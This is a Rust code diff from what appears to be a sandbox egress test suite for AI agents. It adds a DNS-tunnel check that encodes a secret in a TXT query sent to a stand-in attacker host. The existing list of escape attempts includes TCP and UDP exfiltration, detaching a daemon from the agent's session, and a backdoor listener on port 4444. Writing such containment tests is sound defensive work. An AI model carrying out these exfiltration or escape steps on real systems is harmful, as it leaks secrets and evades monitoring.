@@ -11,7 +11,7 @@ use std::time::Duration;
 use anyhow::Result;
 
 use super::files;
-use super::stage::{ATTACKER, METADATA, METADATA_NAT64, MODEL};
+use super::stage::{ATTACKER, METADATA, METADATA_NAT64, MODEL, TUNNEL};
 
 /// Longest wait for an answer.
 const PATIENCE: Duration = Duration::from_secs(5);
@@ -31,7 +31,7 @@ const ACTS: &[Act] = &[
     ("exfiltrate", || tcp(ATTACKER, 443)),
     ("exfiltrate-daemon", daemonised),
     ("fast-open", fast_open),
-    ("dns-tunnel", || udp(ATTACKER, 53)),
+    ("dns-tunnel", dns_tunnel),
     ("quic", || udp(MODEL, 443)),
     ("backdoor", || TcpListener::bind((Ipv4Addr::UNSPECIFIED, 4444)).map(drop)),
     ("dev-server", || TcpListener::bind((Ipv4Addr::LOCALHOST, 3000)).map(drop)),
@@ -97,6 +97,31 @@ fn tcp(text: &str, port: u16) -> io::Result<()> {
 fn udp(text: &str, port: u16) -> io::Result<()> {
     UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?.send_to(b"secret", address(text, port)?).map(drop)
 }
+
+/// A secret in a name, to the attacker's own server, which gives no answer. One that says that there is no such name is
+/// the monitor's: then nothing left the host.
+fn dns_tunnel() -> io::Result<()> {
+    // An identifier, "recursion, please", one question: the name, TXT, IN.
+    let mut question = vec![0x5e, 0xc7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+    for label in TUNNEL.split('.') {
+        question.push(label.len() as u8);
+        question.extend(label.bytes());
+    }
+    question.extend([0, 0, 16, 0, 1]);
+    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
+    socket.set_read_timeout(Some(Duration::from_secs(1)))?;
+    socket.send_to(&question, address(ATTACKER, 53)?)?;
+    let mut answer = [0; 512];
+    match socket.recv_from(&mut answer) {
+        Ok((length, _)) if length > 3 && answer[3] & 15 == NAME_ERROR => {
+            Err(io::Error::from_raw_os_error(libc::ENOENT))
+        }
+        _ => Ok(()),
+    }
+}
+
+/// The response code of a name that does not exist.
+const NAME_ERROR: u8 = 3;
 
 /// Two forks and a new session away from the agent.
 fn daemonised() -> io::Result<()> {
